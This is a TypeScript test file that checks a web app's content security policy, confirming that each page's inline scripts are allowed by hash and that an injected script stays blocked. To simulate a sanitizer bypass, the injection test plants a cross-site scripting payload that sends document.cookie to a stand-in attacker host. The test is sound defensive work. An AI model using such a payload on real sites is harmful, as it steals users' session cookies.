/**
 * The page content policy on the built pages: every inline script a page ships is allowed by
 * its hash, because each is known before any request (the product's own, Astro's, the build's
 * inlined ones); a script that an injection put into a page is not, though it passes through
 * the same render and middleware; and no first render of a process (the per-sport layouts not
 * yet loaded, a long odds list) leaves React writing a script of its own or a part of the page
 * for the browser to finish.
 */
import { createHash } from 'node:crypto';
import { existsSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Notice } from '../../src/lib/domain/notices';
import { until } from '../support/wait';
import { bootServer, DIST, type BootedServer } from './helpers/boot';

/**
 * In this order on a process that has rendered no page yet: the odds view and a league tab
 * first, whose lists and day strip come from a chunk the first render has to load.
 */
const PAGES = [
  '/all/odds',
  '/major/all',
  '/',
  '/?lang=en',
  '/?lang=jp',
  '/inplay/1',
  '/game/results/inplay',
  '/login',
  '/register',
  '/admin',
  '/embed-demo',
  '/odds/dropping',
  '/odds/sure-bets',
  '/inplay/league/details/101',
  '/inplay/league/info/101',
  '/inplay/team/info/1001',
  '/inplay/odds/details/{matchId}',
];

const INLINE = /<script\b([^>]*)>([\s\S]*?)<\/script\s*>/gi;
const runnable = (attributes: string) =>
  !/\ssrc\s*=|application\/(ld\+)?json/i.test(` ${attributes}`);
const sha = (text: string) =>
  `'sha256-${createHash('sha256').update(text, 'utf8').digest('base64')}'`;

/** The hashes of a page's inline scripts that can run. */
const shippedHashes = (html: string) =>
  new Set(
    [...html.matchAll(INLINE)]
      .filter(([, attributes = '']) => runnable(attributes))
      .map(([, , body = '']) => sha(body)),
  );

/** The script-src sources of a policy. */
const scriptSources = (policy: string) =>
  /(?:^|; )script-src ([^;]*)/.exec(policy)?.[1]?.split(' ') ?? [];

/**
 * Asks until the simulator has soccer matches in play, so the lists are long (no page is
 * rendered meanwhile); the first one's id.
 */
async function firstMatchInPlay(url: string): Promise<number> {
  return until(
    'a soccer match in play',
    async () => {
      const res = await fetch(`${url}/api/games/inplay?sportsId=1`);
      const body = (await res.json()) as { data?: { id: number }[] };
      return body.data?.[0]?.id;
    },
    { timeoutMs: 30_000, intervalMs: 200 },
  );
}

describe('the page content policy', { timeout: 60_000 }, () => {
  let server: BootedServer;
  let matchId = 0;
  beforeAll(async () => {
    if (!existsSync(path.join(DIST, 'inline-script-hashes.json')))
      throw new Error('No dist/inline-script-hashes.json: run `npm run build` first.');
    server = await bootServer({ ROLE: 'all' });
    matchId = await firstMatchInPlay(server.url);
  });
  afterAll(async () => {
    await server?.stop();
  });

  it.each(PAGES)('%s allows exactly the inline scripts it ships, all its own', async (route) => {
    const page = route.replace('{matchId}', String(matchId));
    const res = await fetch(`${server.url}${page}`);
    expect(res.status, page).toBe(200);
    const html = await res.text();
    const policy = res.headers.get('content-security-policy') ?? '';
    const shipped = shippedHashes(html);
    const allowed = new Set(scriptSources(policy).filter((s) => s.startsWith("'sha256-")));
    expect(
      [...shipped].filter((h) => !allowed.has(h)),
      `${page}: shipped, not allowed`,
    ).toEqual([]);
    expect(
      [...allowed].filter((h) => !shipped.has(h)),
      `${page}: allowed, not shipped`,
    ).toEqual([]);
    // React wrote no reveal script and left no boundary for the browser to render instead.
    expect(/\$R[A-Z]=|<!--\$[?!]-->/.exec(html)?.[0], page).toBeUndefined();
    for (const directive of [
      "default-src 'self'",
      "object-src 'none'",
      "base-uri 'none'",
      "form-action 'self'",
      "frame-ancestors 'self'",
    ])
      expect(policy, page).toContain(directive);
    expect(scriptSources(policy)[0]).toBe("'self'");
    expect(policy).not.toMatch(/script-src[^;]*unsafe/);
  });

  it('does not allow a script an injection put into a page', async () => {
    const payload = 'fetch("//evil.example/"+document.cookie)';
    const notices = server.app.services.notices;
    const shown = notices.shown.bind(notices);
    // As if rich text had slipped past the sanitizer: the page renders it as it is.
    const injected: Notice = {
      id: 990_001,
      kind: 'banner',
      title: 'Injected',
      body: `<p>Hello</p><script>${payload}</script>`,
      lang: null,
      status: true,
      created_at: 0,
      updated_at: 0,
      deleted_at: null,
    };
    notices.shown = async (lang) => [...(await shown(lang)), injected];
    try {
      const res = await fetch(`${server.url}/login`);
      const html = await res.text();
      expect(html).toContain(`<script>${payload}</script>`);
      const sources = scriptSources(res.headers.get('content-security-policy') ?? '');
      expect(sources).not.toContain(sha(payload));
      expect(sources.join(' ')).not.toMatch(/unsafe-inline|unsafe-hashes|strict-dynamic/);
      // The page's own scripts still run.
      const own = [...shippedHashes(html)].filter((h) => h !== sha(payload));
      expect(own.length).toBeGreaterThan(0);
      for (const hash of own) expect(sources).toContain(hash);
    } finally {
      notices.shown = shown;
    }
  });
});
